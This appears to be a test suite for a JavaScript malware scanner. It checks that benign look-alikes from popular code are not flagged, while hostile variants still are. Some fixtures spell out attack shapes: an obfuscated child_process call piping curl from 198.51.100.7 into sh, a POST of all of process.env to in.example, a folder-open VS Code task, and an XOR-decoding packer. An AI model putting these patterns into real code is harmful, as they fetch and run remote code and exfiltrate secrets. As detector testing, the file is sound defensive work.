/**
 * Issue 9, point 12: look-alikes from popular code that must not be reported (each written as a
 * small realistic fixture of our own), next to the malicious shape each one resembles.
 */
import { analyzeSource, threatsOf } from './helpers';

describe('precision on popular-code look-alikes', () => {
  it("process.binding('util') feature detection is not native code", () => {
    const r = analyzeSource({
      'lodash-like.js': `
var freeGlobal = typeof global == 'object' && global && global.Object === Object && global;
var freeProcess = freeGlobal && freeGlobal.process;
var nodeUtil = (function () {
  try {
    var types = freeProcess && freeProcess.require && freeProcess.require('util').types;
    if (types) return types;
    return freeProcess && freeProcess.binding && freeProcess.binding('util');
  } catch (e) {}
})();
var direct = typeof process === 'object' && process.binding('natives');
module.exports = { nodeUtil, direct };
`,
    });
    expect(r.capabilities.native.has_native).toBe(false);
    expect(r.evidence.filter((f) => 'capability' in f && f.capability === 'native')).toEqual([]);
    expect(threatsOf(r)).toEqual([]);
  });

  it('a polyfill looking up a global by a name its caller wrote plainly is not hidden access', () => {
    const r = analyzeSource({
      'get-built-in.js': `
var globalThis_ = typeof globalThis == 'object' ? globalThis : global;
var getOwn = Object.getOwnPropertyDescriptor;
module.exports = function getBuiltIn(name) {
  var d = getOwn(globalThis_, name);
  return d && d.value;
};
`,
      'fetch.js': `var getBuiltIn = require('./get-built-in');
var nativeFetch = getBuiltIn('fetch');
var NativeRequest = getBuiltIn('Request');
module.exports = { nativeFetch, NativeRequest };
`,
    });
    expect(r.evidence.filter((f) => f.rule === 'js.descriptor-api-access')).toEqual([]);
    // The same lookup with a name assembled at run time is still reported.
    const hidden = analyzeSource({
      'x.js': `
function pick(o, n) { return Object.getOwnPropertyDescriptor(o, n).value; }
const m = require(['child', 'process'].join('_'));
pick(m, ['exec', 'Sync'].join(''))('curl -s http://198.51.100.7/p | sh');
`,
    });
    expect(threatsOf(hidden).length).toBeGreaterThan(0);
  });

  it('process.dlopen is native; the internal spawn binding is a process start', () => {
    const native = analyzeSource({
      'load.js': `const m = { exports: {} }; process.dlopen(m, require('path').join(__dirname, 'addon.node'));`,
    });
    expect(native.capabilities.native.has_native).toBe(true);
    const spawn = analyzeSource({
      'x.js': `const b = process.binding('spawn_sync');
b.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], stdio: [{ type: 'pipe', readable: true }] });`,
    });
    expect(spawn.capabilities.process.commands).toContain('sh');
    expect(threatsOf(spawn)).toContain('malicious_code');
  });

  it('a kaomoji or table flip in a comment is not aaencode', () => {
    const r = analyzeSource({
      'queue.js': `// (ﾟДﾟ) nothing to do here ヽ(ﾟｰﾟ)ﾉ  (╯°□°)╯︵ ┻━┻
/* when the queue drains: (ﾟДﾟ)[ﾟεﾟ] ┬─┬ノ( º _ ºノ) */
module.exports = function next(queue) {
  return queue.length ? queue.shift() : null; // ¯\\_(ツ)_/¯
};
`,
    });
    expect(threatsOf(r)).toEqual([]);
  });

  it('a dev server hot-reload socket configured from the environment is not exfiltration', () => {
    const r = analyzeSource({
      'client/hmr.js': `
function resolveOptions(env) {
  return { host: env.HMR_HOST || location.host, path: env.HMR_PATH || '/__hmr' };
}
const opts = resolveOptions(typeof process !== 'undefined' ? process.env : {});
const settings = readSettings(process.env);
const proto = location.protocol === 'https:' ? 'wss' : 'ws';
const socket = new WebSocket(proto + '://' + opts.host + opts.path);
socket.addEventListener('open', () => socket.send(JSON.stringify({ type: 'hello', overlay: settings.overlay })));
socket.addEventListener('message', (ev) => {
  const msg = JSON.parse(ev.data);
  if (msg.type === 'full-reload') location.reload();
});
`,
    });
    expect(threatsOf(r)).toEqual([]);
  });

  it('the whole environment serialised into a request is still exfiltration', () => {
    const r = analyzeSource({
      'x.js': `const qs = require('querystring');
fetch('https://in.example/c', { method: 'POST', body: qs.stringify(process.env) });`,
    });
    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
  });

  it('a CLI help string that mentions process.env.CI is not exfiltration', () => {
    const r = analyzeSource({
      'bin/cli.js': `#!/usr/bin/env node
const HELP = [
  'Usage: fmtcheck [options] <files...>',
  '  --ci        CI mode (on when process.env.CI is set; reports go to stdout)',
  '  --token     API token for uploading results (defaults to process.env.FMTCHECK_TOKEN)',
  '  --upload    send the report to the dashboard at https://dash.fmtcheck.example',
].join('\\n');
const args = process.argv.slice(2);
if (args.includes('--help')) { console.log(HELP); process.exit(0); }
const ci = !!process.env.CI;
console.log(ci ? 'ci mode' : 'local mode');
`,
    });
    expect(threatsOf(r)).toEqual([]);
  });

  it('a CLI option table whose description mentions process.env.CI is not read as a tool description', () => {
    const r = analyzeSource({
      'dist/cli-options.js': `
const options = {
  open: { description: 'Open the report in a browser automatically (default: \`!process.env.CI\`)' },
  token: { description: 'Token used to upload results; read your .npmrc or process.env.NPM_TOKEN when unset', argument: '<token>' },
  reporter: { description: 'Reporter to use, or a path to a custom reporter', argument: '<name>' },
};
module.exports = options;
`,
    });
    expect(threatsOf(r)).toEqual([]);
  });

  it('a migration tool writing .vscode tasks and settings stays below warning; a folder-open task does not', () => {
    const benign = analyzeSource({
      'lib/migrate.js': `
const fs = require('fs');
const path = require('path');
module.exports = function migrate(root) {
  const dir = path.join(root, '.vscode');
  fs.mkdirSync(dir, { recursive: true });
  const tasks = { version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build', group: 'build' }] };
  fs.writeFileSync(path.join(dir, 'tasks.json'), JSON.stringify(tasks, null, 2));
  fs.writeFileSync('.vscode/settings.json', JSON.stringify({ 'editor.formatOnSave': true }));
};
`,
    });
    expect(threatsOf(benign)).toEqual([]);
    const hostile = analyzeSource({
      'lib/setup.js': `
const fs = require('fs');
const task = { label: 'init', type: 'shell', command: 'node .vscode/init.js', runOptions: { runOn: 'folderOpen' } };
fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ version: '2.0.0', tasks: [task] }));
`,
    });
    expect(threatsOf(hostile, 0.8)).toContain('malicious_code');
  });

  it('a build tool compiling its own source files through an inline function is not a packer', () => {
    const benign = analyzeSource({
      'tools/node.js': `
var fs = require('fs');
exports.FILES = [require.resolve('../lib/parse.js'), require.resolve('../lib/output.js')];
new Function('exports', function () {
  var code = exports.FILES.map(function (file) { return fs.readFileSync(file, 'utf8'); });
  return code.join('\\n\\n');
}())(exports);
`,
    });
    expect(threatsOf(benign)).toEqual([]);
    const packed = analyzeSource({
      'p.js': `new Function((function (s, k) {
  var out = '';
  for (var i = 0; i < s.length; i++) out += String.fromCharCode(s.charCodeAt(i) ^ k);
  return out;
})(payload, 7))();`,
    });
    expect(threatsOf(packed, 0.8)).toContain('malicious_code');
  });

  it('JOSE PBES2 key derivation is not a decoder', () => {
    const r = analyzeSource({
      'lib/pbes2kw.js': `
const crypto = require('crypto');
function concatSalt(alg, p2s) { return Buffer.concat([Buffer.from(alg), Buffer.from([0]), p2s]); }
function checkP2s(p2s) { if (!(p2s instanceof Uint8Array) || p2s.length < 8) throw new TypeError('PBES2 Salt Input must be 8 or more octets'); }
function deriveKey(p2s, alg, p2c, key) {
  checkP2s(p2s);
  const salt = concatSalt(alg, p2s);
  const keylen = parseInt(alg.slice(13, 16), 10) >> 3;
  return crypto.pbkdf2Sync(key, salt, p2c, keylen, 'sha' + alg.slice(8, 11));
}
function encrypt(alg, key, cek, p2c = 2048, p2s = crypto.randomBytes(16)) {
  const derived = deriveKey(p2s, alg, p2c, key);
  const cipher = crypto.createCipheriv('id-aes' + alg.slice(-6, -3) + '-wrap', derived, Buffer.from('A6A6A6A6A6A6A6A6', 'hex'));
  return { encryptedKey: Buffer.concat([cipher.update(cek), cipher.final()]), p2c, p2s };
}
encrypt('PBES2-HS256+A128KW', Buffer.from('secret'), crypto.randomBytes(16));
deriveKey(Buffer.alloc(8), 'PBES2-HS512+A256KW', 'c2VjcmV0IHBhc3N3b3Jk', 'RGVyaXZlZEtleUJhc2U2NA');
module.exports = { encrypt, deriveKey };
`,
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
